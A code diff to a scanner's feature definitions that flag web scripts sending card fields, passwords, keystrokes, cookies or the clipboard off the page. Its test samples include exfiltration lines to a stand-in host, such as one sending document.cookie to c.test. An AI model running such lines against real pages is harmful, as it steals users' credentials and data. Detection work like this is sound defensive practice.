@@ -1,6 +1,6 @@
 import { anyField, sensitiveData, taint } from '../flow/taint.ts';
 import type { Feature } from './feature.ts';
-import { sends, sendsTo } from './finders.ts';
+import { sends, sendsToIgnoringResponse } from './finders.ts';
 
 /** Data that leaves the page. None of these is malicious by itself: forms and analytics do the same. */
 export const dataflowFeatures: readonly Feature[] = [
@@ -8,7 +8,7 @@ export const dataflowFeatures: readonly Feature[] = [
     id: 'card-fields-sent',
     what: 'Sends what is typed into card fields',
     points: 60,
-    shows: ['taken'],
+    shows: [],
     find: sends(taint.cardName, anyField),
     samples: {
       matching: [
@@ -25,7 +25,7 @@ export const dataflowFeatures: readonly Feature[] = [
     id: 'passwords-sent',
     what: 'Sends what is typed into password fields',
     points: 45,
-    shows: ['taken'],
+    shows: [],
     find: sends(taint.passwordName, anyField),
     samples: {
       matching: [
@@ -38,7 +38,7 @@ export const dataflowFeatures: readonly Feature[] = [
     id: 'keys-sent',
     what: 'Sends pressed keys',
     points: 45,
-    shows: ['taken'],
+    shows: [],
     find: sends(taint.key),
     samples: {
       matching: [
@@ -51,11 +51,22 @@ export const dataflowFeatures: readonly Feature[] = [
     id: 'fields-sent',
     what: 'Sends what is typed into fields',
     points: 20,
-    shows: ['taken'],
+    shows: [],
     find: sends(anyField),
     samples: {
       matching: [`fetch('/search?q=' + document.getElementById('q').value);`],
       other: [`document.title = document.getElementById('q').value; fetch('/x');`],
+    },
+  },
+  {
+    id: 'all-fields-sent',
+    what: 'Sends what is typed into all fields of the page or a form',
+    points: 2,
+    shows: ['taken'],
+    find: sends(taint.allFields, taint.field),
+    samples: {
+      matching: [`fetch('/save', { method: 'POST', body: new FormData(document.forms[0]) });`],
+      other: [`fetch('/search?q=' + document.getElementById('q').value);`],
     },
   },
   {
@@ -73,7 +84,7 @@ export const dataflowFeatures: readonly Feature[] = [
     id: 'all-cookies-sent',
     what: 'Sends all cookies unchanged',
     points: 30,
-    shows: ['taken'],
+    shows: [],
     find: sends(taint.wholeCookie),
     samples: {
       matching: [`new Image().src = '//c.test/?' + encodeURIComponent(document.cookie);`],
@@ -82,16 +93,17 @@ export const dataflowFeatures: readonly Feature[] = [
   },
   {
     id: 'sent-to-other-host',
-    what: 'Sends such data to another host that it names or hides',
+    what: 'Sends such data to another host that it names or hides, and ignores the response',
     points: 2,
     shows: ['destination'],
-    find: sendsTo(['foreign', 'hidden'], sensitiveData),
+    find: sendsToIgnoringResponse(['foreign', 'hidden'], sensitiveData),
     samples: {
       matching: [`fetch('https://c.test/?' + localStorage.getItem('id'));`],
       other: [
         `fetch('/c?' + localStorage.getItem('id'));`,
         `fetch(settings.url + localStorage.getItem('id'));`,
         `fetch('https://c.test/?' + navigator.language);`,
+        `fetch('https://c.test/?' + localStorage.getItem('id')).then((r) => r.json()).then(show);`,
       ],
     },
   },
@@ -110,7 +122,7 @@ export const dataflowFeatures: readonly Feature[] = [
     id: 'clipboard-sent',
     what: 'Sends the clipboard',
     points: 40,
-    shows: ['taken'],
+    shows: [],
     find: sends(taint.clipboard),
     samples: {
       matching: [
